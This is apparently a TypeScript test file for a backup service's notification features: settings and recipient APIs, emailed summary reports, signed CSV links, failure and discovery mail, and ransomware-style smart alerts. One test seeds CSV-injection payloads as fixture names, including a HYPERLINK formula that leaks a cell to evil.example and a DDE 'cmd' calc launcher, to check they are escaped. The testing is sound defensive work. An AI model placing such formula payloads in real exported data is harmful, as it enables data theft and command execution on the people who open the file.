// Notifications: settings and recipients over the API; summary reports, exceptions, recovery,
// auto-discovery and smart-alert mail received on a real SMTP server and read as a recipient would
// (subject, plain-text and HTML bodies, the CSV attachment or the signed download link).
import t from 'tap';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { startSmtpServer, type SmtpTestServer } from '../helpers/smtp.ts';
import { parseMime } from '../helpers/mime.ts';
import { pathOf } from '../helpers/security.ts';
import { startBackupFixture } from '../helpers/backup-fixture.ts';
import { newId } from '../../db/ids.ts';
import { accounts, activityEvents, auditEvents, backupRuns, entities, jobs, tasks, webhookDeliveries } from '../../db/schema.ts';
import { eq } from 'drizzle-orm';
import { notifyDiscovery, notifyJobFinished, notifyRunFinished, notifyTaskDisconnected } from '../../api/resources/notifications/triggers.ts';
import { lastPeriod, pruneNotifications, sendDueReports } from '../../api/resources/notifications/reports.ts';
import { DEFAULT_ALERT_THRESHOLDS, detectAnomalies, type RunStats } from '../../api/resources/notifications/smart-alerts.ts';

const ALL = ['summary_report', 'recovery', 'exceptions', 'auto_discovery', 'smart_alerts'];

const NOW = new Date('2026-03-11T08:00:00Z'); // a Wednesday

async function mailApp(t: Parameters<typeof startTestApp>[0], start?: Date): Promise<{ api: TestApp; smtp: SmtpTestServer }> {
  const smtp = await startSmtpServer(t);
  const api = await startTestApp(t, { start, config: { smtpUrl: smtp.url, publicUrl: 'https://coffer.example.test', mailFrom: 'Coffer <robot@coffer.example.test>' } });
  return { api, smtp };
}

// One app and one SMTP server for the API-level tests (each uses its own accounts and addresses);
// a fresh database per test would dominate the file's run time.
let sharedApp: Promise<{ api: TestApp; smtp: SmtpTestServer }> | undefined;
async function shared() {
  sharedApp ??= mailApp(t, NOW);
  const app = await sharedApp;
  app.api.clock.set(NOW);
  return app;
}

/** A task with entities and backup runs written directly (the report reads only rows). */
async function seedBackups(api: TestApp, accountId: string) {
  const db = api.deps.db;
  const taskId = newId('task');
  await db.insert(tasks).values({ id: taskId, accountId, name: 'Acme Dropbox', plan: 'business', connectionStatus: 'connected', version: 1 });
  const ent = async (name: string, email: string) => {
    const id = newId('ent');
    await db.insert(entities).values({ id, accountId, taskId, kind: 'member', dropboxId: `dbmid:${id}`, name, email, dropboxStatus: 'active', status: 'success', itemCount: 100, sizeBytes: 1000 });
    return id;
  };
  const alice = await ent('Alice Archer', 'alice@acme.test');
  const bob = await ent('Bob Baker', 'bob@acme.test');
  const run = async (entityId: string, finishedAt: Date, state: 'succeeded' | 'partial' | 'failed', extra: Partial<typeof backupRuns.$inferInsert> = {}) => {
    const id = newId('run', finishedAt.getTime());
    await db.insert(backupRuns).values({
      id, accountId, taskId, entityId, state, reason: 'scheduled', mode: 'incremental', startedAt: new Date(finishedAt.getTime() - 60_000), finishedAt,
      newCount: 3, changedCount: 2, deletedCount: 1, totalItems: 100, totalSize: 1000, ...extra,
    });
    return id;
  };
  return { taskId, alice, bob, run };
}

t.test('settings: defaults, ETag / If-Match, validation; 403 without notifications:manage', async (t) => {
  const { api } = await shared();
  const a = await api.signUp();
  const got = await api.request('GET', '/v1/notifications/settings', { key: a.key });
  t.equal(got.status, 200);
  t.equal(got.headers.get('etag'), '"v1"');
  t.same(got.body, {
    summary_report: true, format: 'backup_tasks_overview', frequency: 'daily', only_on_failure: false, delivery: 'download_link',
    smart_alerts: { enabled: true, deleted_share_percent: 30, modified_share_percent: 50, norm_multiple: 5, min_items: 50, history_runs: 10 },
    updated_at: got.body.updated_at,
  });
  const patched = await api.request('PATCH', '/v1/notifications/settings', {
    key: a.key, headers: { 'if-match': '"v1"' },
    body: { frequency: 'weekly', only_on_failure: true, delivery: 'csv_attachment', format: 'backup_failure_details', smart_alerts: { deleted_share_percent: 20 } },
  });
  t.equal(patched.status, 200);
  t.equal(patched.headers.get('etag'), '"v2"');
  t.match(patched.body, { frequency: 'weekly', only_on_failure: true, delivery: 'csv_attachment', format: 'backup_failure_details' });
  t.same(patched.body.smart_alerts, { ...DEFAULT_ALERT_THRESHOLDS, deleted_share_percent: 20 }, 'threshold changes merge into the defaults');
  const stale = await api.request('PATCH', '/v1/notifications/settings', { key: a.key, headers: { 'if-match': '"v1"' }, body: { frequency: 'daily' } });
  t.equal(stale.status, 412);
  const bad = await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { frequency: 'hourly' } });
  t.equal(bad.status, 400);
  const badThreshold = await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { smart_alerts: { deleted_share_percent: 0 } } });
  t.equal(badThreshold.status, 400);
  const unknown = await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { smart_alerts: { bogus: 1 } } });
  t.equal(unknown.status, 400);

  const b = await api.signUp();
  t.equal((await api.request('GET', '/v1/notifications/settings', { key: b.key })).body.frequency, 'daily', 'settings are per account');

  const narrow = await api.request('POST', '/v1/api-keys', { key: a.key, body: { name: 'reader', scopes: ['backups:read'] } });
  t.equal(narrow.status, 201);
  for (const [method, path] of [['GET', '/v1/notifications/settings'], ['PATCH', '/v1/notifications/settings'], ['GET', '/v1/notifications/recipients'],
    ['POST', '/v1/notifications/recipients'], ['POST', '/v1/notifications/summary-report'], ['GET', '/v1/webhooks'], ['POST', '/v1/webhooks']] as const) {
    const res = await api.request(method, path, { key: narrow.body.secret, body: method === 'GET' ? undefined : {} });
    t.equal(res.status, 403, `${method} ${path} needs notifications:manage`);
    t.equal(res.body.code, 'permission_denied');
  }
});

t.test('recipients: CRUD, types, filter by type, duplicates, tenant isolation', async (t) => {
  const { api } = await shared();
  const a = await api.signUp();
  const b = await api.signUp();
  const created = await api.request('POST', '/v1/notifications/recipients', {
    key: a.key, body: { email: 'Bob.Smith@ca44.example', display_name: 'Bob Smith', types: ['smart_alerts', 'summary_report'] },
  });
  t.equal(created.status, 201);
  t.equal(created.headers.get('location'), `/v1/notifications/recipients/${created.body.id}`);
  t.match(created.body.id, /^rcp_/);
  t.same(created.body.types, ['summary_report', 'smart_alerts'], 'types in canonical order');
  const dup = await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'bob.smith@CA44.example', display_name: 'Bob', types: [] } });
  t.equal(dup.status, 409);
  t.equal(dup.body.code, 'recipient_exists');
  const badType = await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'x@y.example', display_name: 'X', types: ['sms'] } });
  t.equal(badType.status, 400);
  const badEmail = await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'not-an-email', display_name: 'X', types: [] } });
  t.equal(badEmail.status, 400);
  const second = await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'ops@ca44.example', display_name: 'Ops', types: ['exceptions'] } });
  t.equal(second.status, 201);

  const all = await api.request('GET', '/v1/notifications/recipients', { key: a.key });
  t.same(all.body.data.map((r: { id: string }) => r.id), [second.body.id, created.body.id]);
  const alerts = await api.request('GET', '/v1/notifications/recipients?type=smart_alerts', { key: a.key });
  t.same(alerts.body.data.map((r: { id: string }) => r.id), [created.body.id]);
  const paged = await api.request('GET', '/v1/notifications/recipients?limit=1', { key: a.key });
  t.equal(paged.body.data.length, 1);
  t.type(paged.body.next_cursor, 'string');

  const one = await api.request('GET', `/v1/notifications/recipients/${created.body.id}`, { key: a.key });
  t.equal(one.status, 200);
  t.equal(one.headers.get('etag'), '"v1"');
  const upd = await api.request('PATCH', `/v1/notifications/recipients/${created.body.id}`, { key: a.key, headers: { 'if-match': '"v1"' }, body: { types: ALL, display_name: 'Robert Smith' } });
  t.equal(upd.status, 200);
  t.same(upd.body.types, ALL);
  t.equal(upd.body.display_name, 'Robert Smith');
  t.equal((await api.request('PATCH', `/v1/notifications/recipients/${created.body.id}`, { key: a.key, headers: { 'if-match': '"v1"' }, body: { types: [] } })).status, 412);

  // Account B sees none of A's recipients: 404 for every id, and an empty list.
  for (const [method, body] of [['GET', undefined], ['PATCH', { display_name: 'x' }], ['DELETE', undefined]] as const) {
    const res = await api.request(method, `/v1/notifications/recipients/${created.body.id}`, { key: b.key, body });
    t.equal(res.status, 404, `${method} of another account's recipient is 404`);
  }
  t.same((await api.request('GET', '/v1/notifications/recipients', { key: b.key })).body.data, []);

  t.equal((await api.request('DELETE', `/v1/notifications/recipients/${created.body.id}`, { key: a.key })).status, 204);
  t.equal((await api.request('GET', `/v1/notifications/recipients/${created.body.id}`, { key: a.key })).status, 404);
});

t.test('summary report: CSV attachment, to summary_report recipients only, addressed by name', async (t) => {
  const { api, smtp } = await shared();
  const a = await api.signUp({ name: 'CA44 Software' });
  const s = await seedBackups(api, a.accountId);
  const yesterday = new Date('2026-03-10T03:00:00Z');
  await s.run(s.alice, yesterday, 'succeeded');
  await s.run(s.alice, new Date('2026-03-10T15:00:00Z'), 'succeeded', { newCount: 5 });
  await s.run(s.bob, yesterday, 'failed', { error: 'Dropbox answered 500 three times', newCount: 0, changedCount: 0, deletedCount: 0 });
  await s.run(s.bob, new Date('2026-03-09T03:00:00Z'), 'failed', { error: 'outside the period' });

  await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { delivery: 'csv_attachment' } });
  await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'bob.smith@ca44.example', display_name: 'Bob Smith', types: ['summary_report'] } });
  await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'alerts-only@ca44.example', display_name: 'Alerts', types: ['smart_alerts', 'exceptions'] } });

  const res = await api.request('POST', '/v1/notifications/summary-report', { key: a.key });
  t.equal(res.status, 200);
  t.same(res.body, { period_start: '2026-03-10T00:00:00.000Z', period_end: '2026-03-11T00:00:00.000Z', sent: true, recipients: 1, rows: 2, reason: null });
  t.equal(smtp.to('alerts-only@ca44.example').length, 0, 'a recipient without summary_report gets no report');
  const mail = smtp.last('bob.smith@ca44.example');
  t.equal(mail.subject, 'Daily backup summary for CA44 Software: 2026-03-10 (1 failure)');
  t.match(mail.headers.from, /robot@coffer\.example\.test/);
  const parsed = parseMime(mail.raw);
  t.match(parsed.text, /^Hello Bob Smith,/);
  t.match(parsed.text, /3 backup runs \(2 succeeded, 0 partial, 1 failed\) over 2 entities/);
  t.match(parsed.text, /Bob Baker\s+failed\s+Dropbox answered 500 three times/);
  t.match(parsed.text, /attached as coffer-overview-2026-03-10-to-2026-03-10\.csv/);
  t.match(parsed.html, /<p>Hello Bob Smith,<\/p>/);
  t.match(parsed.html, /<td[^>]*>Dropbox answered 500 three times<\/td>/);
  t.equal(parsed.attachments.length, 1);
  const [att] = parsed.attachments;
  t.equal(att!.filename, 'coffer-overview-2026-03-10-to-2026-03-10.csv');
  t.equal(att!.contentType, 'text/csv');
  const lines = att!.content.toString('utf8').trim().split('\n');
  t.equal(lines[0], 'type,task,entity,status,runs,succeeded,partial,failed,new,changed,deleted,items,size_bytes,last_finished_at,details');
  t.equal(lines[1], 'backup,Acme Dropbox,Alice Archer,success,2,2,0,0,8,4,2,100,1000,2026-03-10T15:00:00.000Z,');
  t.equal(lines[2], 'backup,Acme Dropbox,Bob Baker,success,1,0,0,1,0,0,0,100,1000,2026-03-10T03:00:00.000Z,Dropbox answered 500 three times');
  t.equal(lines.length, 3);

  const preview = await api.request('GET', '/v1/notifications/summary-report/preview?format=backup_failure_details', { key: a.key });
  t.equal(preview.status, 200);
  t.match(preview.headers.get('content-type'), /^text\/csv/);
  t.equal(preview.text, 'finished_at,task,entity,status,error\n2026-03-10T03:00:00.000Z,Acme Dropbox,Bob Baker,failed,Dropbox answered 500 three times\n');
  const overview = await api.request('GET', '/v1/notifications/summary-report/preview', { key: a.key });
  t.equal(overview.text, att!.content.toString('utf8'), 'the preview is the CSV the report carries');
  const b = await api.signUp();
  t.equal((await api.request('GET', '/v1/notifications/summary-report/preview', { key: b.key })).text.trim().split('\n').length, 1, 'another account sees only its own (empty) report');
});

t.test('CSV injection: a task named =HYPERLINK(…) and formula-like member names come out of the summary report as text', async (t) => {
  const { api } = await shared();
  const a = await api.signUp({ name: 'Formula Victim' });
  const db = api.deps.db;
  const taskId = newId('task');
  const evilTask = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  await db.insert(tasks).values({ id: taskId, accountId: a.accountId, name: evilTask, plan: 'business', connectionStatus: 'connected', version: 1 });
  const finishedAt = new Date('2026-03-10T03:00:00Z');
  for (const [name, error] of [['@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'], ['+1 555 0100', '\t=1+1']] as const) {
    const entityId = newId('ent');
    await db.insert(entities).values({ id: entityId, accountId: a.accountId, taskId, kind: 'member', dropboxId: `dbmid:${entityId}`, name, email: `${entityId}@acme.test`, dropboxStatus: 'active', status: 'success', itemCount: 1, sizeBytes: 1 });
    await db.insert(backupRuns).values({
      id: newId('run', finishedAt.getTime()), accountId: a.accountId, taskId, entityId, state: 'failed', reason: 'scheduled', mode: 'incremental',
      startedAt: new Date(finishedAt.getTime() - 60_000), finishedAt, error,
    });
  }
  const overview = await api.request('GET', '/v1/notifications/summary-report/preview', { key: a.key });
  t.equal(overview.status, 200);
  t.same(overview.text.trim().split('\n'), [
    'type,task,entity,status,runs,succeeded,partial,failed,new,changed,deleted,items,size_bytes,last_finished_at,details',
    `backup,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'+1 555 0100,success,1,0,0,1,0,0,0,1,1,2026-03-10T03:00:00.000Z,'\t=1+1`,
    `backup,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'@SUM(1+1)*cmd|' /C calc'!A0,success,1,0,0,1,0,0,0,1,1,2026-03-10T03:00:00.000Z,'-2+3`,
  ]);
  const failures = await api.request('GET', '/v1/notifications/summary-report/preview?format=backup_failure_details', { key: a.key });
  for (const line of failures.text.trim().split('\n').slice(1)) {
    const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), `no cell of ${JSON.stringify(line)} starts a formula`);
  }
  t.match(failures.text, /,"'=HYPERLINK\(""https:/);
});

t.test('summary report: signed download link, failure-details format, only_on_failure, scheduled once per period', async (t) => {
  const now = NOW;
  const { api, smtp } = await shared();
  const a = await api.signUp({ name: 'Link Co' });
  const s = await seedBackups(api, a.accountId);
  await s.run(s.alice, new Date('2026-03-10T03:00:00Z'), 'succeeded');
  await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'cfo@link.example', display_name: 'Carla', types: ['summary_report'] } });
  await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { only_on_failure: true, format: 'backup_failure_details' } });

  const quiet = await api.request('POST', '/v1/notifications/summary-report', { key: a.key });
  t.match(quiet.body, { sent: false, reason: 'only_on_failure is set and nothing failed in the period' });
  t.equal(smtp.to('cfo@link.example').length, 0, 'only_on_failure and no failure: no mail');

  await s.run(s.bob, new Date('2026-03-10T05:00:00Z'), 'partial', { failedCount: 2, errors: [{ path: '/big.psd', error: 'too_many_write_operations' }, { path: '/a.txt', error: 'restricted_content' }] });
  const sent = await api.request('POST', '/v1/notifications/summary-report', { key: a.key });
  t.match(sent.body, { sent: true, recipients: 1, rows: 1 });
  const mail = smtp.last('cfo@link.example');
  const parsed = parseMime(mail.raw);
  t.equal(parsed.attachments.length, 0, 'download_link: no attachment');
  const link = [...(parsed.text ?? '').matchAll(/https?:\/\/\S+/g)].map((m) => m[0]).find((l) => l.includes('/v1/notifications/reports/'));
  t.ok(link, 'the text body carries the link');
  t.match(link!, /^https:\/\/coffer\.example\.test\/v1\/notifications\/reports\/rpt_[0-9a-z]{26}\/download\?expires=\d+&signature=[0-9a-f]{64}$/);
  t.ok(parsed.html!.includes(`href="${link!.replace(/&/g, '&amp;')}"`), 'the HTML body links the same URL');
  t.match(parsed.text, /Download the full report \(CSV, valid for 7 days\)/);

  const download = await api.request('GET', pathOf(link!));
  t.equal(download.status, 200, 'the link works without credentials');
  t.match(download.headers.get('content-type'), /^text\/csv/);
  t.equal(download.headers.get('content-disposition'), 'attachment; filename="coffer-failures-2026-03-10-to-2026-03-10.csv"');
  t.equal(download.text, 'finished_at,task,entity,status,error\n2026-03-10T05:00:00.000Z,Acme Dropbox,Bob Baker,partial,2 item(s) failed: /big.psd (too_many_write_operations); /a.txt (restricted_content)\n');

  const u = new URL(link!);
  const forged = `${u.pathname}?expires=${Number(u.searchParams.get('expires')) + 3600}&signature=${u.searchParams.get('signature')}`;
  t.equal((await api.request('GET', forged)).status, 403, 'extending the expiry breaks the signature');
  api.clock.advance(8 * 86_400_000);
  const expired = await api.request('GET', pathOf(link!));
  t.equal(expired.status, 410, 'the link expires after 7 days');
  t.equal(expired.body.code, 'link_expired');
  api.clock.set(now);

  // The scheduled job: once per period, whatever the number of runs of the job.
  await api.deps.db.update(accounts).set({ createdAt: new Date('2026-01-01T00:00:00Z') }).where(eq(accounts.id, a.accountId));
  await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { only_on_failure: false } });
  const before = smtp.to('cfo@link.example').length;
  const first = await sendDueReports(api.deps);
  t.equal(first.sent, 1);
  await sendDueReports(api.deps);
  t.equal(smtp.to('cfo@link.example').length, before + 1, 'a second run of the job in the same period sends nothing');
  api.clock.advance(86_400_000);
  await sendDueReports(api.deps);
  t.equal(smtp.to('cfo@link.example').length, before + 2, 'the next day brings the next report');
  await api.request('PATCH', '/v1/notifications/settings', { key: a.key, body: { summary_report: false } });
  api.clock.advance(86_400_000);
  await sendDueReports(api.deps);
  t.equal(smtp.to('cfo@link.example').length, before + 2, 'summary_report off: no report');

  // Housekeeping: expired report links and old idempotency keys go.
  api.clock.advance(40 * 86_400_000);
  const pruned = await pruneNotifications(api.deps);
  t.ok(pruned.reports >= 2, `expired report links removed (${pruned.reports})`);
  t.ok(pruned.keys >= 2, `old notification keys removed (${pruned.keys})`);
  t.equal((await api.request('GET', pathOf(link!))).status, 410);
});

t.test('report periods', async (t) => {
  const wed = new Date('2026-03-11T08:00:00Z');
  t.same(lastPeriod(wed, 'daily'), { start: new Date('2026-03-10T00:00:00Z'), end: new Date('2026-03-11T00:00:00Z') });
  t.same(lastPeriod(wed, 'weekly'), { start: new Date('2026-03-02T00:00:00Z'), end: new Date('2026-03-09T00:00:00Z') });
  t.same(lastPeriod(wed, 'monthly'), { start: new Date('2026-02-01T00:00:00Z'), end: new Date('2026-03-01T00:00:00Z') });
  t.same(lastPeriod(new Date('2026-01-05T00:00:00Z'), 'monthly'), { start: new Date('2025-12-01T00:00:00Z'), end: new Date('2026-01-01T00:00:00Z') });
});

t.test('exceptions, recovery and auto-discovery mail; each trigger notifies once per event', async (t) => {
  const { api, smtp } = await shared();
  const a = await api.signUp({ name: 'Trigger Co' });
  const s = await seedBackups(api, a.accountId);
  await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'ops@trigger.example', display_name: 'Ops Team', types: ['exceptions'] } });
  await api.request('POST', '/v1/notifications/recipients', { key: a.key, body: { email: 'it@trigger.example', display_name: 'IT', types: ['recovery', 'auto_discovery'] } });

  // A failed backup run → exceptions mail (and only to exceptions recipients).
  const failedRun = await s.run(s.bob, api.clock.now(), 'failed', { error: 'expired_access_token' });
  const r1 = await notifyRunFinished(api.deps, { id: failedRun });
  t.match(r1, { notified: true, mails: 1, webhookEvents: ['backup.run_failed'] });
  const again = await notifyRunFinished(api.deps, { id: failedRun });
  t.match(again, { notified: false, mails: 0, reason: 'already notified' });
  t.equal(smtp.to('ops@trigger.example').length, 1, 'called twice, mailed once');
  t.equal(smtp.to('it@trigger.example').length, 0);
  const fail = smtp.last('ops@trigger.example');
  t.equal(fail.subject, 'Backup failed: Bob Baker (Acme Dropbox)');
  const fp = parseMime(fail.raw);
  t.match(fp.text, /Hello Ops Team,/);
  t.match(fp.text, /Reason: expired_access_token\./);
  t.match(fp.html, /Backup failed<\/h2>/);

  // A partial run lists the failed items; a successful one mails nobody.
  const partial = await s.run(s.alice, api.clock.now(), 'partial', { failedCount: 1, errors: [{ path: '/Locked.xlsx', error: 'restricted_content' }] });
  await notifyRunFinished(api.deps, { id: partial });
  t.equal(smtp.last('ops@trigger.example').subject, 'Backup partially failed: Alice Archer (Acme Dropbox)');
  t.match(parseMime(smtp.last('ops@trigger.example').raw).text, /\/Locked\.xlsx\s+restricted_content/);
  const ok = await s.run(s.alice, api.clock.now(), 'succeeded');
  t.match(await notifyRunFinished(api.deps, { id: ok }), { notified: true, mails: 0, webhookEvents: ['backup.run_finished'] });
  t.equal(smtp.to('ops@trigger.example').length, 2);

  // A disconnected task.
  await api.deps.db.update(tasks).set({ connectionStatus: 'disconnected', connectionError: 'invalid_grant: the refresh token was revoked', version: 2 }).where(eq(tasks.id, s.taskId));
  t.match(await notifyTaskDisconnected(api.deps, { id: s.taskId }), { notified: true, mails: 1 });
  t.match(await notifyTaskDisconnected(api.deps, { id: s.taskId }), { notified: false });
  const disc = smtp.last('ops@trigger.example');
  t.equal(disc.subject, 'Backup task disconnected: Acme Dropbox');
  t.match(parseMime(disc.raw).text, /Reason: invalid_grant: the refresh token was revoked\./);
  await api.deps.db.update(tasks).set({ version: 3 }).where(eq(tasks.id, s.taskId));
  t.match(await notifyTaskDisconnected(api.deps, { id: s.taskId }), { notified: true }, 'a later disconnection is a new event');

  // A finished restore → recovery mail.
  const jobId = newId('job');
  await api.deps.db.insert(jobs).values({
    id: jobId, accountId: a.accountId, type: 'restore', state: 'succeeded', taskId: s.taskId, entityId: s.alice, snapshotId: 'run_x', snapshotAt: new Date('2026-03-01T03:00:00Z'),
    source: { snapshotId: 'run_x' }, destination: { mode: 'non_destructive' }, itemsTotal: 12, itemsDone: 12, initiatorEmail: 'admin@trigger.example',
    createdAt: api.clock.now(), finishedAt: api.clock.now(),
  });
  t.match(await notifyJobFinished(api.deps, { id: jobId }), { notified: true, mails: 1, webhookEvents: ['job.state_changed'] });
  t.match(await notifyJobFinished(api.deps, { id: jobId }), { notified: false });
  const rec = smtp.last('it@trigger.example');
  t.equal(rec.subject, 'Restore completed successfully: Alice Archer');
  const rp = parseMime(rec.raw);
  t.match(rp.text, /Hello IT,/);
  t.match(rp.text, /Items: 12 done, 0 failed of 12\./);
  t.match(rp.text, /Requested by admin@trigger\.example\./);
  t.match(rp.html, /Restore completed successfully<\/h2>/);

  // Auto-discovery: new entities from a discovery activity event.
  const carol = newId('ent');
  const team = newId('ent');
  await api.deps.db.insert(entities).values([
    { id: carol, accountId: a.accountId, taskId: s.taskId, kind: 'member', dropboxId: 'dbmid:carol', name: 'Carol Cook', email: 'carol@acme.test', dropboxStatus: 'active', status: 'scheduled' },
    { id: team, accountId: a.accountId, taskId: s.taskId, kind: 'team_folder', dropboxId: 'tf:1', name: 'Finance', dropboxStatus: 'active', status: 'not_active' },
  ]);
  const evt = newId('evt');
  await api.deps.db.insert(activityEvents).values({
    id: evt, accountId: a.accountId, type: 'discovery', status: 'succeeded', taskId: s.taskId, taskName: 'Acme Dropbox',
    description: 'Discovered', details: { new_entity_ids: [carol, team] }, occurredAt: api.clock.now(),
  });
  t.match(await notifyDiscovery(api.deps, { id: evt }), { notified: true, mails: 1, webhookEvents: ['entity.discovered'] });
  t.match(await notifyDiscovery(api.deps, { id: evt }), { notified: false });
  const found = smtp.last('it@trigger.example');
  t.equal(found.subject, '2 new entities found in Acme Dropbox');
  const dp = parseMime(found.raw);
  t.match(dp.text, /found 2 new entities in Acme Dropbox; 1 was activated for backup/);
  t.match(dp.text, /Carol Cook\s+user\s+carol@acme\.test\s+activated/);
  t.match(dp.text, /Finance\s+team folder\s+not active/);
  t.match(dp.html, /<td[^>]*>Carol Cook<\/td>/);
  t.equal(smtp.to('ops@trigger.example').length, 4, 'exceptions recipients get no recovery or discovery mail');

  // Another account's triggers never reach this account's recipients.
  const b = await api.signUp();
  const sb = await seedBackups(api, b.accountId);
  await notifyRunFinished(api.deps, { id: await sb.run(sb.bob, api.clock.now(), 'failed', { error: 'x' }) });
  t.equal(smtp.to('ops@trigger.example').length, 4);
});

t.test('smart-alert detection (pure): below every threshold → nothing; above → alert', async (t) => {
  const steady: RunStats[] = Array.from({ length: 10 }, () => ({ newCount: 5, changedCount: 10, deletedCount: 2, totalItems: 1000 }));
  const th = DEFAULT_ALERT_THRESHOLDS;
  t.same(detectAnomalies({ newCount: 0, changedCount: 0, deletedCount: 250, totalItems: 750 }, steady, th).map((a) => a.kind), [], '25% deleted is below 30%');
  const [del] = detectAnomalies({ newCount: 0, changedCount: 0, deletedCount: 400, totalItems: 600 }, steady, th);
  t.match(del, { kind: 'mass_deletion', count: 400, base: 1000, share_percent: 40, norm_percent: 0.2, threshold_percent: 30 });
  t.same(detectAnomalies({ newCount: 0, changedCount: 0, deletedCount: 40, totalItems: 60 }, [], th), [], 'fewer than min_items (50) never alerts');
  const [mod] = detectAnomalies({ newCount: 0, changedCount: 700, deletedCount: 0, totalItems: 1000 }, steady, th);
  t.match(mod, { kind: 'mass_modification', count: 700, share_percent: 70 });
  // An entity that routinely rewrites half its files: 60% is within 5× its norm.
  const churny: RunStats[] = Array.from({ length: 5 }, () => ({ newCount: 0, changedCount: 500, deletedCount: 0, totalItems: 1000 }));
  t.same(detectAnomalies({ newCount: 0, changedCount: 600, deletedCount: 0, totalItems: 1000 }, churny, th), [], 'within the recent norm');
  t.same(detectAnomalies({ newCount: 1000, changedCount: 0, deletedCount: 0, totalItems: 1000 }, [], th), [], 'a first backup has nothing to compare');
  t.same(detectAnomalies({ newCount: 0, changedCount: 0, deletedCount: 400, totalItems: 600 }, steady, { ...th, enabled: false }), [], 'disabled');
  t.equal(detectAnomalies({ newCount: 0, changedCount: 0, deletedCount: 250, totalItems: 750 }, steady, { ...th, deleted_share_percent: 20 }).length, 1, 'a lower threshold alerts');
});

t.test('smart alerts from real backups against the emulator: mail, activity, audit, webhook event', async (t) => {
  const smtp = await startSmtpServer(t);
  const f = await startBackupFixture(t, { config: { smtpUrl: smtp.url, publicUrl: 'https://coffer.example.test', webhooks: { allowPrivateTargets: true, retrySchedule: [1] } } });
  const api = f.app;
  const key = f.account.key;
  await api.request('POST', '/v1/notifications/recipients', { key, body: { email: 'secops@acme.example', display_name: 'SecOps', types: ['smart_alerts'] } });
  await api.request('POST', '/v1/notifications/recipients', { key, body: { email: 'reports@acme.example', display_name: 'Reports', types: ['summary_report', 'exceptions'] } });
  const hook = await api.request('POST', '/v1/webhooks', { key, body: { url: 'http://127.0.0.1:9/hook', events: ['smart_alert.raised'] } });
  t.equal(hook.status, 201);

  const eve = f.emu.state.addMember({ email: 'eve@coffer-emu.test', givenName: 'Eve', surname: 'Evans' });
  for (let i = 0; i < 200; i++) f.emu.state.putFile(eve, `/Docs/file-${String(i).padStart(3, '0')}.txt`, `document ${i}\n`);
  const entityId = await f.memberEntity(eve);
  const first = await f.backup(entityId);
  t.equal(first.outcome, 'succeeded');
  if (first.outcome !== 'succeeded') return;
  t.match(await notifyRunFinished(api.deps, { id: first.runId }), { notified: true, anomalies: [] }, 'a first backup raises nothing');

  // Ordinary day: 5 files deleted, 5 edited.
  for (let i = 0; i < 5; i++) f.emu.state.delete(eve, `/Docs/file-${String(i).padStart(3, '0')}.txt`);
  for (let i = 5; i < 10; i++) f.emu.state.putFile(eve, `/Docs/file-${String(i).padStart(3, '0')}.txt`, `edited ${i}\n`);
  const normal = await f.backup(entityId);
  if (normal.outcome !== 'succeeded') return t.fail(`backup ${normal.outcome}`);
  t.equal(normal.counts.deleted, 5);
  t.equal(normal.counts.changed, 5);
  t.match(await notifyRunFinished(api.deps, { id: normal.runId }), { notified: true, anomalies: [] }, 'below the thresholds: no alert');
  t.equal(smtp.to('secops@acme.example').length, 0);

  // Ransomware-like: 120 of the remaining 195 files rewritten, and 60 deleted.
  for (let i = 10; i < 130; i++) f.emu.state.putFile(eve, `/Docs/file-${String(i).padStart(3, '0')}.txt`, `ENCRYPTED ${i} ${'x'.repeat(i)}\n`);
  for (let i = 130; i < 190; i++) f.emu.state.delete(eve, `/Docs/file-${String(i).padStart(3, '0')}.txt`);
  const attack = await f.backup(entityId);
  if (attack.outcome !== 'succeeded') return t.fail(`backup ${attack.outcome}`);
  t.equal(attack.counts.changed, 120);
  t.equal(attack.counts.deleted, 60);
  const raised = await notifyRunFinished(api.deps, { id: attack.runId });
  t.same(raised.anomalies?.map((a) => a.kind), ['mass_deletion', 'mass_modification']);
  t.same(raised.webhookEvents, ['backup.run_finished', 'smart_alert.raised', 'smart_alert.raised']);
  t.equal(raised.mails, 2);
  t.equal((await notifyRunFinished(api.deps, { id: attack.runId })).notified, false, 'idempotent: no second alert');

  const alerts = smtp.to('secops@acme.example');
  t.equal(alerts.length, 2);
  t.equal(smtp.to('reports@acme.example').length, 0, 'smart alerts go to smart_alerts recipients only');
  const del = alerts.find((m) => /mass deletion/.test(m.subject))!;
  t.equal(del.subject, 'Smart alert: mass deletion detected in Eve Evans');
  const p = parseMime(del.raw);
  // 196 items before the run (195 files + the /Docs folder), 60 deleted = 30.61%.
  t.match(p.text, /found 60 of 196 items \(30\.61%\) deleted since the previous backup/);
  t.match(p.text, /ransomware/);
  t.match(p.html, /Smart alert: mass deletion<\/h2>/);

  const activity = await api.deps.db.select().from(activityEvents).where(eq(activityEvents.accountId, f.accountId));
  const alertEvents = activity.filter((e) => (e.type as string) === 'smart_alert');
  t.equal(alertEvents.length, 2, 'two alert activity events');
  t.match(alertEvents[0]!.details, { run_id: attack.runId });
  const audits = await api.deps.db.select().from(auditEvents).where(eq(auditEvents.accountId, f.accountId));
  t.equal(audits.filter((e) => e.type === 'smart_alert').length, 2, 'two audit entries');
  const auditList = await api.request('GET', '/v1/audit?type=smart_alert', { key });
  t.equal(auditList.body.data.length, 2);
  t.match(auditList.body.data[0].description, /^Smart alert: mass/);
